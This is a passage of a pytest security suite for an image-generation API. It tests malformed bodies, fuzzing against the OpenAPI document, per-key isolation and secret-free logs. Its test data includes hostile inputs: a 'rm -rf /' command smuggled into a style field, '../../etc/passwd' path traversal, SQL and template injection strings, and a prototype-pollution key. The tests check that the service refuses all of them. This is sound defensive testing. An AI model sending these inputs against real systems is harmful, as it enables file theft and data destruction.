    ("-Infinity literal", _raw(b'{"workflow": "sdxl", "prompt": "x", "seed": -Infinity}'), 400, "invalid_json",
     None),
    ("5000-digit integer", _raw(b'{"workflow": "sdxl", "prompt": "x", "seed": ' + b"9" * 5000 + b"}"), 400,
     "invalid_json", None),
    ("deeply nested arrays", _raw(b'{"prompt": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), 400, "invalid_json",
     None),
    ("nested 40 deep", _raw(b'{"prompt": ' + b'{"a":' * 40 + b"1" + b"}" * 40 + b"}"), 400, "invalid_json", None),
    ("duplicate keys", _raw(b'{"workflow": "sdxl", "prompt": "a", "prompt": "b"}'), 400, "invalid_json", None),
    ("invalid utf-8", _raw(b'{"workflow": "sdxl", "prompt": "\xff\xfe"}'), 400, "invalid_json", None),
    ("utf-16 body", _raw(json.dumps({"workflow": "sdxl", "prompt": "x"}).encode("utf-16")), 400, "invalid_json",
     None),
    ("empty body", _raw(b""), 400, "invalid_json", None),
    ("json null", _raw(b"null"), 400, "invalid_body", None),
    ("json string", _raw(b'"[Lena] hello"'), 400, "invalid_body", None),
    ("object where a string belongs", _sdxl(prompt={"$ne": ""}), 422, "invalid_parameters", "prompt"),
    ("array where a string belongs", _sdxl(prompt=["a", "b"]), 422, "invalid_parameters", "prompt"),
    ("number where a string belongs", _sdxl(prompt=42), 422, "invalid_parameters", "prompt"),
    ("null where a string belongs", _sdxl(prompt=None), 422, "invalid_parameters", "prompt"),
    ("string where a list belongs", _json(story(scenes="[Lena] x")), 422, "invalid_parameters", "scenes"),
    ("object in the scene list", _json(story(scenes=[{"text": "[Lena] x"}])), 422, "invalid_parameters",
     "scenes.0"),
    ("nested lists as characters", _json(story(characters=[[["Lena"]]])), 422, "invalid_parameters",
     "characters.0"),
    ("prototype pollution", _sdxl(__proto__={"admin": True}), 422, "invalid_parameters", "__proto__"),
    ("very long unknown field", _sdxl(**{"f" * 10_000: 1}), 422, "invalid_parameters", "f"),
    ("very long workflow name", _json({"workflow": "w" * 10_000, "prompt": "x"}), 422, "unknown_workflow", "workflow"),
    ("workflow as object", _json({"workflow": {"$ne": "x"}}), 422, "unknown_workflow", "workflow"),
    ("hostile gpu pin", _sdxl(gpu="../../etc/passwd"), 422, "invalid_parameters", "gpu"),
    ("gpu pin as list", _sdxl(gpu=["gpu.test.0"]), 422, "invalid_parameters", "gpu"),
    ("checkpoint climbing out", _sdxl(checkpoint="../../models/x.safetensors"), 422, "invalid_parameters",
     "checkpoint"),
    ("absolute checkpoint", _sdxl(checkpoint="/etc/passwd.safetensors"), 422, "invalid_parameters", "checkpoint"),
    ("style with a command", _json(story(style="Comic_book; rm -rf /")), 422, "invalid_parameters", "style"),
    ("sampler with a null byte", _sdxl(sampler="euler\u0000"), 422, "invalid_parameters", "sampler"),
    ("raw graph with a lone surrogate", _raw(b'{"workflow": "raw", "graph": {"1": {"class_type": "CLIPTextEncode",'
                                             b' "inputs": {"text": "\\udc00"}}}}'), 422, "invalid_parameters",
     "graph.1.inputs.text"),
    ("body too large", _sdxl(prompt="x" * 2_000_000), 413, "body_too_large", None),
    ("form body", _raw(b"prompt=x", "application/x-www-form-urlencoded"), 415, "unsupported_media_type", None),
]


@pytest.mark.parametrize("case, request_kwargs, status, code, field", HOSTILE, ids=[c[0] for c in HOSTILE])
def test_hostile_bodies(api_fleet, case, request_kwargs, status, code, field):
    fleet = api_fleet
    kwargs = dict(request_kwargs)
    kwargs["headers"] = {**ALICE, **kwargs.get("headers", {})}
    client = redis.Redis.from_url(fleet.redis.url)
    before = n_tasks(client)
    response = requests.post(fleet.url + "/api/v1/generate", timeout=30, **kwargs)
    assert response.status_code == status, response.text[:500]
    assert response.headers["Content-Type"] == "application/json"
    if status == 202:
        task = response.json()
        sent = kwargs["json"]
        expected = {k: v for k, v in sent.items() if k != "workflow"}
        assert {k: task["params"][k] for k in expected} == expected  # verbatim, nothing escaped or stripped
        again = requests.get(f"{fleet.url}/api/v1/tasks/{task['task_id']}", headers=ALICE, timeout=10).json()
        assert again["params"] == task["params"]
        graph = TaskStore(client, 60).payload(task["task_id"])["graph"]
        inputs = [v for node in graph.values() for v in node["inputs"].values() if isinstance(v, str)]
        for value in (sent.get("prompt"), *(sent.get("scenes") or [])):
            if value:  # reaches ComfyUI as plain text: the input itself, or one line of the plugin's text
                assert any(value == text or value in text.split("\n") for text in inputs), value
        return
    error = response.json()["error"]
    assert (error["source"], error["code"]) == ("service", code)
    assert error["message"] and len(error["message"]) < 1000  # nothing huge echoed back
    if field is not None:
        named = error["details"]["errors"][0]["field"] if code == "invalid_parameters" else error["details"]["field"]
        assert named.startswith(field), error
    assert n_tasks(client) == before  # nothing queued


def _get(fleet, path: str, headers: dict) -> tuple[int, str, bytes]:
    """A GET with the path sent exactly as written (requests would normalise some of it)."""
    conn = http.client.HTTPConnection("127.0.0.1", fleet.api_port, timeout=10)
    try:
        conn.request("GET", path, headers=headers)
        response = conn.getresponse()
        return response.status, response.getheader("Content-Type") or "", response.read()
    finally:
        conn.close()


def test_hostile_task_ids_and_image_indices(api_fleet):
    fleet = api_fleet
    client = redis.Redis.from_url(fleet.redis.url)
    store = TaskStore(client, 3600)
    task_id = str(uuid.uuid4())
    store.create({"task_id": task_id, "workflow": "sdxl", "queue": QUEUE, "owner": "alice",
                  "params": {}, "created_at": "2026-01-01T00:00:00.000Z", "cost": 1.0}, {"graph": {}})
    for step in ("hand", "start"):
        store.apply(step, task_id, queue=QUEUE, owner="alice", instance="w1", fields={"worker": "w1"})
    png = b"\x89PNG\r\n\x1a\n" + b"0" * 64
    outputs = fleet.workdir / "outputs"
    (outputs / task_id).mkdir(parents=True)
    (outputs / task_id / "1_0.png").write_bytes(png)
    (fleet.workdir / "secret.txt").write_text("TOP-SECRET")
    (outputs / "secret.txt").write_text("TOP-SECRET")
    store.apply("succeed", task_id, queue=QUEUE, owner="alice", instance="w1", fields={"result": {"images": [
        {"key": f"{task_id}/1_0.png", "content_type": "image/png", "size": len(png), "width": 1, "height": 1}]}})
    base = f"/api/v1/tasks/{task_id}"
    status, kind, body = _get(fleet, base + "/images/0", ALICE)
    assert (status, kind, body) == (200, "image/png", png)
    assert _get(fleet, base + "/images/0", BOB)[0] == 404  # another key's task: no image either

    hostile_indices = ["-1", "1", "1e3", "0x0", "%2B0", "%200", "0%20", "0.png", "%D9%A0", "%EF%BC%90",
                       "99999999999999999999999999999999", "0%00", "%00", "..%2f..%2fsecret.txt",
                       "0%2f..%2f..%2fsecret.txt", "%2e%2e", "..", "0/../../secret.txt", "%252e%252e%252fsecret.txt",
                       "1" * 3000]
    for index in hostile_indices:
        status, kind, body = _get(fleet, f"{base}/images/{index}", ALICE)
        assert status == 404, (index, status, body[:200])
        assert kind == "application/json" and json.loads(body)["error"]["source"] == "service", index
        assert b"TOP-SECRET" not in body
    hostile_ids = ["..%2f..%2fsecret.txt", "%2e%2e%2f%2e%2e%2fsecret.txt", "..", "../../etc/passwd", "%00",
                   task_id + "%00", task_id + "%2f..", "-1", "0", "9" * 64, "9" * 3000, "%D9%A3" * 32,
                   "'%20OR%20'1'='1", "%7B%7B7*7%7D%7D", "%3Cscript%3E", task_id.replace("-", "%2D") + "x",
                   "cs:task:" + task_id, "*"]
    for raw_id in hostile_ids:
        for suffix in ("", "/images/0", "/logs"):
            status, kind, body = _get(fleet, f"/api/v1/tasks/{raw_id}{suffix}", ALICE)
            assert status == 404, (raw_id, suffix, status, body[:200])
            assert kind == "application/json" and b"TOP-SECRET" not in body
            assert len(body) < 2000  # a 5000-character id is not echoed back whole
    assert _get(fleet, base, ALICE)[0] == 200


# ---- Fuzzing: schemathesis over the service's own OpenAPI document ------------------------------

import hypothesis  # noqa: E402
import schemathesis  # noqa: E402
from schemathesis.checks import CHECKS, load_all_checks  # noqa: E402

FUZZ_SEED = 20261130
FUZZ_EXAMPLES = 100  # per operation and generation phase
load_all_checks()
# Every check schemathesis has: response_schema_conformance validates each SSE event against the
# document's itemSchema and the stream against its schema; the stateful ones (use_after_free,
# ensure_resource_availability) and object_level_authorization find nothing to compare in a
# one-request case and pass.
FUZZ_CHECKS = CHECKS.get_all()
fuzz_answers: set[tuple[str, str, int]] = set()


def _served_document() -> dict:
    from app.openapi import openapi_document
    from workflows.catalog import load_catalog

    return openapi_document(load_catalog())


# The document the API serves at /openapi.json, built by the same function at collection time
# (schemathesis's lazy fixture loader does not run under pytest 9); the first fuzz step checks
# that the running API serves exactly this document.
fuzz_schema = schemathesis.openapi.from_dict(_served_document())


@pytest.fixture(scope="module")
def fuzz_tasks(api_fleet) -> list[str]:
    """Alice's tasks for generated task ids to name: each was cancelled while it waited, so its
    event stream replays `queued` and `cancelled` and closes (a waiting job's stream stays open)."""
    ids = []
    for body in (SDXL, story(seed=1)):
        task = requests.post(api_fleet.url + "/api/v1/generate", json=body, headers=ALICE, timeout=10).json()
        cancelled = requests.delete(f"{api_fleet.url}/api/v1/tasks/{task['task_id']}", headers=ALICE, timeout=10)
        assert cancelled.json()["status"] == "cancelled"
        ids.append(task["task_id"])
    return ids


@fuzz_schema.parametrize()
@hypothesis.seed(FUZZ_SEED)
@hypothesis.settings(max_examples=FUZZ_EXAMPLES, deadline=None, derandomize=False, database=None,
                     suppress_health_check=list(hypothesis.HealthCheck))
def test_fuzz_the_openapi_document(case, api_fleet, fuzz_tasks):
    """No 5xx, and every answer (status, content type, headers, body, each SSE event) is what the
    document says; invalid input is refused, valid input accepted, auth never ignored."""
    if isinstance(case.body, dict):
        # Which GPUs exist is the fleet's state, not the document's: a valid body pins the fleet's
        # one GPU (a pin to one the fleet never had is 422 unknown_gpu: the test below).
        for field, real in (("gpu", QUEUE), ("host", "test")):
            if case.meta.generation.mode.is_positive and isinstance(case.body.get(field), str):
                case.body[field] = real
        # Which hosts a webhook may reach is the operator's list, not the document's.
        if case.meta.generation.mode.is_positive and isinstance(case.body.get("callback_url"), str):
            case.body["callback_url"] = f"https://{WEBHOOK_HOST}/hook"
    key = (case.headers or {}).get("Idempotency-Key")
    if case.meta.generation.mode.is_positive and isinstance(key, str):
        # One key with two bodies is 422 idempotency_key_reused by design; generated keys repeat
        # across cases, so each body gets its own (the same body again is still a replay).
        body = json.dumps(case.body, sort_keys=True, default=str).encode()
        case.headers["Idempotency-Key"] = f"{key[:200]}-{zlib.crc32(body):08x}"
    if "task_id" in (case.path_parameters or {}) and case.meta.generation.mode.is_positive:
        # A generated uuid names no task: most positive cases name one of Alice's, so that task
        # documents, event streams (replayed from any Last-Event-ID) and 409s are answered too.
        choice = zlib.crc32(str(case.path_parameters["task_id"]).encode()) % (len(fuzz_tasks) + 1)
        if choice < len(fuzz_tasks):
            case.path_parameters["task_id"] = fuzz_tasks[choice]
    excluded = []
    if isinstance(case.body, dict) and case.body.get("workflow", "storydiffusion") in ("raw", "storydiffusion"):
        # Rules across fields that JSON Schema does not state, so schema-valid bodies are mostly
        # refused (422): a raw graph must be a working ComfyUI graph of node classes on the
        # operator's RAW_NODE_ALLOWLIST; each story scene names exactly one of the characters as
        # [Name] and every character appears. sdxl bodies have no such rule and keep the check.
        excluded = [CHECKS.get_one("positive_data_acceptance")]
    response = case.call_and_validate(base_url=api_fleet.url, headers=ALICE, checks=FUZZ_CHECKS,
                                      excluded_checks=excluded, timeout=30)
    fuzz_answers.add((case.method, case.path, response.status_code))


def test_the_fuzzed_document_is_the_served_one(api_fleet):
    served = requests.get(api_fleet.url + "/openapi.json", timeout=10).json()
    assert served == json.loads(json.dumps(_served_document()))


def test_the_fuzzer_reached_the_answers_that_carry_documents():
    """The fuzz run validated real task documents and event streams, not only 404s."""
    if not fuzz_answers:
        pytest.skip("test_fuzz_the_openapi_document did not run in this session")
    events = "/api/v1/tasks/{task_id}/events"
    for answer in (("GET", events, 200), ("GET", "/api/v1/tasks/{task_id}/logs", 200),
                   ("GET", "/api/v1/tasks/{task_id}", 200), ("DELETE", "/api/v1/tasks/{task_id}", 409),
                   ("POST", "/api/v1/generate", 202), ("POST", "/api/v1/generate", 422)):
        assert answer in fuzz_answers, (answer, sorted(fuzz_answers))


@pytest.fixture(scope="module")
def sse_fleet(tmp_path_factory):
    """A real GPU (simulator and worker) behind the API with keys: jobs run, so their streams carry
    every kind of event."""
    from tests.support.fleet import one_gpu_fleet

    fleet = one_gpu_fleet(tmp_path_factory, "security-sse", "--step-seconds", "0.03", API_KEYS=API_KEYS)
    yield fleet
    fleet.stop()


def _validated_stream(fleet, task_id: str, last_event_id: str | None = None):
    """GET the task's event stream as schemathesis does, with every check; the events seen."""
    operation = fuzz_schema["/api/v1/tasks/{task_id}/events"]["GET"]
    case = operation.Case(path_parameters={"task_id": task_id},
                          headers={"Last-Event-ID": last_event_id} if last_event_id else None)
    response = case.call_and_validate(base_url=fleet.url, headers=ALICE, checks=FUZZ_CHECKS, timeout=60)
    from schemathesis.core.deserialization import _parse_sse_events

    return response.status_code, _parse_sse_events(response.content)


def test_the_event_streams_of_real_jobs_match_the_document(sse_fleet):
    """Every event of every outcome, live and replayed, validated against the served document:
    queued (with position updates), started, progress, output, succeeded / failed / cancelled."""
    base = sse_fleet.url + "/api/v1"

    def submit(body):
        response = requests.post(base + "/generate", json=body, headers=ALICE, timeout=10)
        assert response.status_code == 202, response.text
        return response.json()["task_id"]

    body = {**SDXL, "steps": 12}
    ahead = [submit(body) for _ in range(2)]
    behind = submit(body)
    status, live = _validated_stream(sse_fleet, behind)  # followed live from queued to the end
    kinds = [event["event"] for event in live]
    assert status == 200 and kinds[0] == "queued" and kinds[-1] == "succeeded", kinds
    assert {"started", "progress", "output"} <= set(kinds), kinds

    cancelled = submit(body)
    assert requests.delete(f"{base}/tasks/{cancelled}", headers=ALICE, timeout=10).status_code in (200, 202)
    wait_until(lambda: requests.get(f"{base}/tasks/{cancelled}", headers=ALICE, timeout=5).json()["status"]
               == "cancelled", 30, what="the cancelled job")
    sse_fleet.sims[0].faults(fail_at_step=1)
    failed = submit(body)
    for task_id, outcome in ((ahead[0], "succeeded"), (cancelled, "cancelled"), (failed, "failed")):
        status, events = _validated_stream(sse_fleet, task_id)  # replayed (or followed) to the end
        assert status == 200 and events[-1]["event"] == outcome, (outcome, [e["event"] for e in events])
        final_id = events[-1]["id"]
        assert _validated_stream(sse_fleet, task_id, final_id)[0] == 204  # it saw the end
        resumed = _validated_stream(sse_fleet, task_id, events[0]["id"])[1]
        assert resumed[0]["id"] == events[1]["id"]  # resumed right after the first event


def test_a_pin_to_an_unknown_gpu_is_422(api_fleet):
    for pin in ({"gpu": "gpu.nowhere.7"}, {"host": "nowhere"}):
        response = requests.post(api_fleet.url + "/api/v1/generate", json={**SDXL, **pin}, headers=ALICE, timeout=10)
        assert response.status_code == 422, response.text
        error = response.json()["error"]
        assert error["code"] == "unknown_gpu" and QUEUE in error["details"]["available"]["gpus"]


# ---- End to end: a password-protected Redis, keys, isolation, raw graphs, no secret in logs -----

REDIS_PASSWORD = "rEd1s-pa55-" + uuid.uuid4().hex


def test_keys_isolation_and_raw_jobs_end_to_end_with_a_redis_password(tmp_path):
    from tests.support.fleet import Fleet

    workdir = tmp_path / "fleet"
    workdir.mkdir()
    server = RedisServer(port=free_port(), workdir=tmp_path, password=REDIS_PASSWORD).start()
    assert REDIS_PASSWORD in server.url
    with pytest.raises(redis.AuthenticationError):
        redis.Redis(port=server.port).ping()  # the password is really required
    fleet = Fleet(workdir=workdir, redis=server, extra_env={
        "API_KEYS": API_KEYS, "ALLOW_RAW_WORKFLOWS": "true", "MAX_ACTIVE_JOBS_PER_KEY": "100",
        # The limiter's storage is the same password-protected Redis.
        "RATE_LIMIT": "100000/minute", "RATE_LIMIT_GENERATE": "1000/minute"})
    try:
        sim = fleet.add_sim("--step-seconds", "0.02")
        fleet.add_worker(sim)
        fleet.wait_workers()
        fleet.start_api()
        base = fleet.url
        # A Redis-managed key, made with the CLI through the password-protected URL.
        added = subprocess.run([sys.executable, "-m", "app.keys", "add", "carol"], cwd=REPO, capture_output=True,
                               text=True, timeout=30, env={**os.environ, "REDIS_URL": server.url})
        assert added.returncode == 0, added.stderr
        carol_key = added.stdout.strip()
        carol = {"Authorization": f"Bearer {carol_key}"}

        assert requests.post(base + "/api/v1/generate", json=story(), timeout=10).status_code == 401
        story_task = requests.post(base + "/api/v1/generate", json=story(seed=3), headers=ALICE, timeout=10).json()
        raw_graph = _graph(**{"5__width": 256, "5__height": 256, "3__steps": 3})
        raw_task = requests.post(base + "/api/v1/generate", json={"workflow": "raw", "graph": raw_graph},
                                 headers=ALICE, timeout=10).json()
        carol_task = requests.post(base + "/api/v1/generate", json=SDXL, headers=carol, timeout=10).json()

        def done(task_id, headers):
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                doc = requests.get(f"{base}/api/v1/tasks/{task_id}", headers=headers, timeout=5).json()
                if doc["status"] in ("succeeded", "failed", "cancelled"):
                    return doc
                time.sleep(0.05)
            raise TimeoutError(task_id)
        for task, headers, images in ((story_task, ALICE, 2), (raw_task, ALICE, 1), (carol_task, carol, 1)):
            finished = done(task["task_id"], headers)
            assert finished["status"] == "succeeded", finished
            assert len(finished["result"]["images"]) == images
            image = requests.get(base + finished["result"]["images"][0]["url"], headers=headers, timeout=10)
            assert image.status_code == 200 and image.content.startswith(b"\x89PNG")
        # Isolation over real HTTP: bob and carol see none of alice's tasks, images or logs.
        for path in (f"/api/v1/tasks/{story_task['task_id']}", f"/api/v1/tasks/{story_task['task_id']}/images/0",
                     f"/api/v1/tasks/{story_task['task_id']}/logs"):
            for headers in (BOB, carol):
                assert requests.get(base + path, headers=headers, timeout=5).status_code == 404
            assert requests.get(base + path, headers=ALICE, timeout=5).status_code == 200
        # The output files were named by the service, not by the raw graph.
        stored = sorted(p.name for p in (workdir / "outputs" / raw_task["task_id"]).iterdir())
        assert [name for name in stored if name != "log.jsonl"] == ["1_0.png"]  # and its log lines, moved there
        # A failing job leaves the active sets too.
        sim.faults(fail_at_step=1)
        failing = requests.post(base + "/api/v1/generate", json=SDXL, headers=BOB, timeout=10).json()
        assert done(failing["task_id"], BOB)["status"] == "failed"
        client = redis.Redis.from_url(server.url)
        assert client.keys("LIMITS:LIMITER/cs:ratelimit/key:alice/*")  # counted in that Redis
        wait_until(lambda: client.scard("cs:active") == 0, 10, what="no active job left")
        for owner in ("alice", "bob", "carol"):
            assert client.scard(f"cs:active:{owner}") == 0
        # No secret in any log: not the API keys, not the Redis password.
        fleet.api.stop()
        logs = {p.name: p.read_text(errors="replace") for p in workdir.rglob("*.log")}
        assert {"api.log", "worker-0.log"} <= set(logs), sorted(logs)
        assert logs["api.log"].strip() and logs["worker-0.log"].strip()  # there were logs to search
        for name, text in logs.items():
            for secret in (ALICE_KEY, BOB_KEY, carol_key, REDIS_PASSWORD):
                assert secret not in text, f"{name} contains a secret"
    finally:
        fleet.stop()
